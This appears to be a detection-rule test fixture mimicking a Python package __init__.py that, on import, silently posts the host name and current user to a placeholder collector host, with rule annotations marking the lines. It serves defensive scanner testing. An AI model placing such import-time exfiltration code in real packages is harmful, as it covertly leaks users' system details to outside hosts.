# canary-test: path=corp_internal/__init__.py artifact=wheel
# Import-time probe: host name and user posted on import (inert).
import getpass
import json
import socket
import urllib.request

# ruleid: IMPORT_TIME_RECON
info = {"h": socket.gethostname(), "u": getpass.getuser()}
req = urllib.request.Request("https://example.invalid/c", data=json.dumps(info).encode())
# ruleid: IMPORT_TIME_RECON
try:
    urllib.request.urlopen(req, timeout=3)
except Exception:
    pass
# ok: RECON_TO_COLLECTOR
